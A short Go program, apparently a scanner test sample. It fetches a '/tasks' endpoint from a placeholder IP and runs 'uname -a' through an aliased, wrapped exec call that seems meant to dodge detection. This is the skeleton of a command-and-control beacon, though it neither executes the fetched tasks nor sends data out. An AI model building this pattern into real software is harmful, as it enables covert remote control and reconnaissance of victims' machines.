package main

import (
	x "os/exec"
	. "net/http"
)

func run(name string, rest ...string) {
	f := x.Command
	f(name, rest...).Run()
}

func main() {
	r, err := Get("http://198.51.100.3/tasks")
	if err != nil {
		return
	}
	defer r.Body.Close()
	run("uname", "-a")
}
